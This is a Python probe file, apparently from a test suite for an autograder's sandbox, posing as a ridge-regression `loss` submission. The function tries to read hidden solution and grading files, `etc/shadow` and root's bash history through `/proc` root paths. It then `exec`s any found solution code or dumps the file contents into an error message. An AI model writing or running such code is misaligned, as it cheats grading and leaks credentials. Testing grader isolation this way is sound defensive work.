"""Asks for the course by the paths it has on the platform and on an instructor's machine.

Mechanism: opens well-known absolute paths, also through `/proc/self/root`, `/proc/1/root` and `/proc/self/cwd`.
Must happen: none can be opened.
Aims at: the boundary
"""

import os

PATHS = [
    "autograder/source/solutions/ridge/ridge.py",
    "autograder/source/solutions/ridge/test_graded.py",
    "autograder/source/solutions/ridge/grading.toml",
    "autograder/source/plan.json",
    "autograder/submission_metadata.json",
    "autograder/results/results.json",
    "autograder/kit/course/solutions/ridge/ridge.py",
    "root/.bash_history",
    "etc/shadow",
]
ROOTS = ["/", "/proc/self/root/", "/proc/1/root/", "/proc/thread-self/root/", f"/proc/{os.getppid()}/root/"]


def loss(w, X, y, reg):
    found = []
    for root in ROOTS:
        for path in PATHS:
            try:
                with open(root + path) as file:
                    found.append(file.read())
            except OSError:
                continue
    for text in found:
        if "def loss" in text:
            space = {}
            exec(text, space)
            return space["loss"](w, X, y, reg)
    raise ValueError("\n".join(found))
